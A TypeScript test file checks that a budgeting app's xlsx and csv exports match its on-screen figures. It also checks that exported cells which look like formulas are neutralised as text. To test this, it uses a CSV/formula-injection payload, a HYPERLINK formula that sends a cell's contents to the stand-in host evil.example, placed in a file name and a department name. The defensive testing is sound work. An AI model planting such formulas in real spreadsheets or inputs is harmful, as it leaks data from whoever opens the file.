// The spreadsheet exports on the demo company: every figure read back from the xlsx (exceljs) and
// the csv (papaparse) equals what the screens' services return for the same plan and department.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { budgetGrid } from '../../../electron/core/budget/grid-service';
import { varianceReport } from '../../../electron/core/budget/variance-service';
import { buildDemo } from '../../../electron/core/demo/demo-workspace';
import { exportTable } from '../../../electron/core/export/table-export';
import { moneyFormat, percentFormat } from '../../../electron/core/export/table-xlsx';
import { listImportBatches } from '../../../electron/core/imports/history';
import { commitImport } from '../../../electron/core/imports/commit';
import { planImport } from '../../../electron/core/imports/preview';
import { listDepartments, updateDepartment } from '../../../electron/core/org/department-service';
import type { VarianceReport } from '../../../shared/budget';
import { AppError } from '../../../shared/result';
import { tempWorkspace, type TempWorkspace } from '../../helpers/temp-workspace';
import { sheet, workbook } from '../imports/workbooks';
import { csvMinor, readCsv, readXlsx, xlsxMinor } from './read-back';

let t: TempWorkspace;
let planId: string;
let plan27: string;
const id = (sql: string, ...params: string[]) => t.ctx.db.$client.prepare(sql).pluck().get(...params) as string;
const deptId = (code: string) => id('SELECT id FROM departments WHERE code = ?', code);

beforeAll(() => {
  t = tempWorkspace({ init: { name: 'Larkspur Freight' } });
  buildDemo(t.ctx, { asOf: '2026-11-21' });
  planId = id("SELECT id FROM plans WHERE name = 'FY2026 · Base'");
  plan27 = id("SELECT id FROM plans WHERE name = 'FY2027 · Base'");
  // Two imports for the history, one from a file whose name would be a formula.
  for (const [fileName, amount] of [
    ['warehouse.csv', 100],
    ['=HYPERLINK("http://evil.example","budget").csv', 200],
  ] as const) {
    const book = workbook(
      fileName,
      sheet('Budget', [
        ['Department', 'Account', 'Month', 'Amount'],
        ['210', '6000', '2027-01', amount],
        ['210', '6100', '2027-02', amount / 2],
      ]),
    );
    const result = commitImport(t.ctx, planImport(t.ctx, book, { planId: plan27 }));
    expect(result.batch).toBeTruthy();
  }
});
afterAll(() => t.cleanup());

const budgetHeader = (months: string[]) => ['Department code', 'Department name', 'Parent code', 'Account code', 'Account name', 'Type', ...months, 'Total'];

/** What the budget table must hold: every department depth-first, as the tree lists them, × its grid's rows. */
function expectedBudget(underCode?: string) {
  const departments = listDepartments(t.ctx);
  const codeOf = new Map(departments.map((d) => [d.id, d.code]));
  let chosen = departments;
  if (underCode !== undefined) {
    const start = departments.findIndex((d) => d.code === underCode);
    const end = departments.findIndex((d, i) => i > start && d.depth <= departments[start]!.depth);
    chosen = departments.slice(start, end < 0 ? undefined : end);
  }
  return chosen.flatMap((d) => {
    const grid = budgetGrid(t.ctx, { planId, departmentId: d.id });
    return grid.rows.map((r) => ({ d, parentCode: d.parentId === null ? null : codeOf.get(d.parentId)!, r, months: grid.months }));
  });
}

describe('budget', () => {
  it('xlsx: a row per department × account, every month and total equal to the grid, with formats and a frozen header', async () => {
    const out = await exportTable(t.ctx, { view: 'budget', format: 'xlsx', planId });
    expect(out.fileName).toBe('budget-FY2026-Base.xlsx');
    const { ws, header, rows } = await readXlsx(out.base64);
    const expected = expectedBudget();
    expect(new Set(expected.map((e) => e.d.code)).size).toBe(listDepartments(t.ctx).length);
    expect(header).toEqual(budgetHeader(expected[0]!.months));
    expect(rows).toHaveLength(expected.length);
    expect(out.rows).toBe(expected.length);
    expected.forEach(({ d, parentCode, r }, i) => {
      const row = rows[i]!;
      expect(row.slice(0, 6)).toEqual([d.code, d.name, parentCode, r.code, r.name, r.type]);
      r.values.forEach((v, m) => xlsxMinor(row[6 + m]!, v));
      xlsxMinor(row[18]!, r.total);
    });
    // Every month is a real number somewhere; a department's parent rows really are sums.
    expect(rows.some((row) => typeof row[6] === 'number')).toBe(true);

    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(ws.getRow(2).getCell(7).numFmt).toBe(moneyFormat);
    expect(ws.getRow(2).getCell(19).numFmt).toBe(moneyFormat);
    expect(ws.getRow(1).getCell(7).numFmt ?? 'General').toBe('General');
    // exceljs leaves a column of its default width (9) unwritten; it reads back as undefined.
    for (let c = 1; c <= header.length; c++) expect(ws.getColumn(c).width ?? 9).toBeGreaterThanOrEqual(8);
    expect(ws.getColumn(5).width).toBeGreaterThan(ws.getColumn(3).width!);
  });

  it('csv: the same table, UTF-8 with BOM, comma-separated, dot decimals without thousands separators', async () => {
    const out = await exportTable(t.ctx, { view: 'budget', format: 'csv', planId });
    expect(out.fileName).toBe('budget-FY2026-Base.csv');
    const { text, header, rows } = readCsv(out.base64);
    expect(text.split('\r\n')[0]).toBe(budgetHeader(expectedBudget()[0]!.months).join(','));
    const expected = expectedBudget();
    expect(header).toEqual(budgetHeader(expected[0]!.months));
    expect(rows).toHaveLength(expected.length);
    expected.forEach(({ d, parentCode, r }, i) => {
      const row = rows[i]!;
      expect(row.slice(0, 6)).toEqual([d.code, d.name, parentCode ?? '', r.code, r.name, r.type]);
      r.values.forEach((v, m) => expect(csvMinor(row[6 + m]!)).toBe(v));
      expect(csvMinor(row[18]!)).toBe(r.total);
    });
    // "Sales & Marketing" is written plainly; "Chloé"-style text survives as UTF-8.
    expect(text).toContain(',Sales & Marketing,');
  });

  it('with a department: its subtree only, depth-first', async () => {
    const out = await exportTable(t.ctx, { view: 'budget', format: 'csv', planId, departmentId: deptId('200') });
    expect(out.fileName).toBe('budget-FY2026-Base-200.csv');
    const { rows } = readCsv(out.base64);
    const expected = expectedBudget('200');
    expect([...new Set(rows.map((r) => r[0]))]).toEqual(['200', '210', '220', '230']);
    expected.forEach(({ r }, i) => r.values.forEach((v, m) => expect(csvMinor(rows[i]![6 + m]!)).toBe(v)));
  });

  it('without a plan: the plan the board pack would take (the approved plan of the latest month with actuals)', async () => {
    const out = await exportTable(t.ctx, { view: 'budget', format: 'xlsx' });
    expect(out.fileName).toBe('budget-FY2026-Base.xlsx');
    const explicit = await exportTable(t.ctx, { view: 'budget', format: 'csv', planId });
    const implicit = await exportTable(t.ctx, { view: 'budget', format: 'csv' });
    expect(implicit.base64).toBe(explicit.base64);
  });

  it('reads in a transaction of its own and leaves none open', async () => {
    await exportTable(t.ctx, { view: 'budget', format: 'csv', planId });
    expect(t.ctx.db.$client.inTransaction).toBe(false);
  });
});

function expectedVariance(reports: { code: string; name: string; report: VarianceReport }[]) {
  const fav = (f: boolean | null) => (f === null ? 'On budget' : f ? 'Fav' : 'Unfav');
  const totals = { revenue: 'Total revenue', expense: 'Total expenses', capex: 'Total capital expenditure' } as const;
  return reports.flatMap(({ code, name, report }) => [
    ...report.rows.map((r) => ({ code, name, account: r.code, label: r.name, type: r.type, f: r, fav: fav(r.favourable) })),
    ...report.subtotals.map((s) => ({ code, name, account: null, label: totals[s.type], type: s.type, f: s, fav: fav(s.favourable) })),
  ]);
}

const varianceHeader = ['Department code', 'Department name', 'Account code', 'Account name', 'Type', 'Budget', 'Actual', 'Variance', 'Variance %', 'Fav/Unfav'];

describe('variance', () => {
  it('xlsx by default: the top of the tree, account rows then a total per type, equal to varianceReport', async () => {
    const root = deptId('100');
    const report = varianceReport(t.ctx, { planId, departmentId: root });
    expect(report.to).toBe('2026-10');
    const out = await exportTable(t.ctx, { view: 'variance', format: 'xlsx', planId });
    expect(out.fileName).toBe('variance-FY2026-Base-2026-01-2026-10.xlsx');
    const { ws, header, rows } = await readXlsx(out.base64);
    expect(header).toEqual(varianceHeader);
    const expected = expectedVariance([{ code: '100', name: 'Larkspur Freight', report }]);
    expect(rows).toHaveLength(expected.length);
    expected.forEach((e, i) => {
      const row = rows[i]!;
      expect(row.slice(0, 5)).toEqual([e.code, e.name, e.account, e.label, e.type]);
      xlsxMinor(row[5]!, e.f.budget);
      xlsxMinor(row[6]!, e.f.actual);
      xlsxMinor(row[7]!, e.f.variance);
      expect(row[8]).toBe(e.f.variancePct);
      expect(row[9]).toBe(e.fav);
    });
    expect(new Set(expected.map((e) => e.fav))).toEqual(new Set(['Fav', 'Unfav']));
    expect(ws.getRow(2).getCell(9).numFmt).toBe(percentFormat);
    expect(ws.getRow(2).getCell(6).numFmt).toBe(moneyFormat);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('csv for a department and a month range, variance % in percent units', async () => {
    const ops = deptId('200');
    const report = varianceReport(t.ctx, { planId, departmentId: ops, from: '2026-03', to: '2026-06' });
    const out = await exportTable(t.ctx, { view: 'variance', format: 'csv', planId, departmentId: ops, from: '2026-03', to: '2026-06' });
    expect(out.fileName).toBe('variance-FY2026-Base-200-2026-03-2026-06.csv');
    const { header, rows } = readCsv(out.base64);
    expect(header).toEqual(varianceHeader);
    const expected = expectedVariance([{ code: '200', name: 'Operations', report }]);
    expect(rows).toHaveLength(expected.length);
    expected.forEach((e, i) => {
      const row = rows[i]!;
      expect(row.slice(0, 5)).toEqual([e.code, e.name, e.account ?? '', e.label, e.type]);
      expect(csvMinor(row[5]!)).toBe(e.f.budget);
      expect(csvMinor(row[6]!)).toBe(e.f.actual);
      expect(csvMinor(row[7]!)).toBe(e.f.variance);
      if (e.f.variancePct === null) expect(row[8]).toBe('');
      else {
        expect(row[8]).toMatch(/^-?\d+\.\d{2}$/);
        expect(Math.abs(Number(row[8]) - e.f.variancePct * 100)).toBeLessThanOrEqual(0.005 + 1e-9);
      }
      expect(row[9]).toBe(e.fav);
    });
  });

  it('refuses a month outside the plan, as the screen does', async () => {
    await expect(exportTable(t.ctx, { view: 'variance', format: 'csv', planId, from: '2025-12' })).rejects.toMatchObject({ code: 'invalid_input' });
  });
});

describe('import history', () => {
  it('lists every batch as the history screen does, the file name that looks like a formula as text', async () => {
    const batches = listImportBatches(t.ctx);
    expect(batches).toHaveLength(2);
    const header = ['Seq', 'Date (UTC)', 'Kind', 'File', 'Hash', 'Sheets', 'Plan', 'Departments', 'Rows', 'Cells', 'Who', 'Undone (UTC)'];

    const x = await exportTable(t.ctx, { view: 'imports', format: 'xlsx' });
    expect(x.fileName).toBe('import-history.xlsx');
    const back = await readXlsx(x.base64);
    expect(back.header).toEqual(header);
    expect(back.rows).toHaveLength(batches.length);
    batches.forEach((b, i) => {
      const row = back.rows[i]!;
      expect(row[0]).toBe(b.seq);
      expect(row[1]).toEqual(new Date(b.createdAt));
      const file = b.fileName.startsWith('=') ? `'${b.fileName}` : b.fileName;
      expect(row.slice(2)).toEqual([b.kind, file, b.fileHash, b.sheets.join(', '), b.planName, b.departmentCodes.join(', '), b.rowsImported, b.cellsImported, b.origin, null]);
    });
    expect(back.rows.map((r) => r[3])).toContain(`'=HYPERLINK("http://evil.example","budget").csv`);

    const c = await exportTable(t.ctx, { view: 'imports', format: 'csv' });
    const csv = readCsv(c.base64);
    expect(csv.header).toEqual(header);
    batches.forEach((b, i) => {
      const row = csv.rows[i]!;
      expect(row[0]).toBe(String(b.seq));
      expect(row[1]).toBe(b.createdAt.slice(0, 19).replace('T', ' '));
      expect(row.slice(2, 8)).toEqual([b.kind, b.fileName.startsWith('=') ? `'${b.fileName}` : b.fileName, b.fileHash, b.sheets.join(', '), b.planName ?? '', b.departmentCodes.join(', ')]);
      expect(row.slice(8)).toEqual([String(b.rowsImported), String(b.cellsImported), b.origin, '']);
    });
  });
});

describe('text that would be a formula', () => {
  it('a department named =HYPERLINK(…) is text in both formats, everywhere it appears', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    updateDepartment(t.ctx, { id: deptId('210'), name: evil });
    try {
      const x = await readXlsx((await exportTable(t.ctx, { view: 'budget', format: 'xlsx', planId })).base64);
      const names = x.rows.filter((r) => r[0] === '210').map((r) => r[1]);
      expect(names.length).toBeGreaterThan(0);
      for (const n of names) expect(n).toBe(`'${evil}`);
      // Not a formula cell: exceljs would read one back as { formula }.
      const cell = x.ws.getRow(x.rows.findIndex((r) => r[0] === '210') + 2).getCell(2);
      expect(cell.type).toBe(3 /* ValueType.String */);
      expect(cell.formula).toBeUndefined();

      const v = readCsv((await exportTable(t.ctx, { view: 'variance', format: 'csv', planId, departmentId: deptId('210') })).base64);
      expect(v.rows.length).toBeGreaterThan(0);
      for (const r of v.rows) expect(r[1]).toBe(`'${evil}`);
      // And in the raw text the field is quoted (it holds a comma and quotes), apostrophe first.
      expect(v.text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    } finally {
      updateDepartment(t.ctx, { id: deptId('210'), name: 'Warehouse' });
    }
  });
});

describe('refusals', () => {
  it('a workspace without plans has nothing to export for budget or variance; the history is empty but valid', async () => {
    const empty = tempWorkspace();
    try {
      const err = await exportTable(empty.ctx, { view: 'budget', format: 'xlsx' }).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(AppError);
      expect((err as AppError).code).toBe('not_found');
      const history = await exportTable(empty.ctx, { view: 'imports', format: 'csv' });
      expect(history.rows).toBe(0);
      expect(readCsv(history.base64).rows).toEqual([]);
    } finally {
      empty.cleanup();
    }
  });

  it('an unknown plan or department is refused', async () => {
    await expect(exportTable(t.ctx, { view: 'budget', format: 'csv', planId: 'nope' })).rejects.toMatchObject({ code: 'not_found' });
    await expect(exportTable(t.ctx, { view: 'variance', format: 'csv', planId, departmentId: 'nope' })).rejects.toMatchObject({ code: 'not_found' });
  });
});
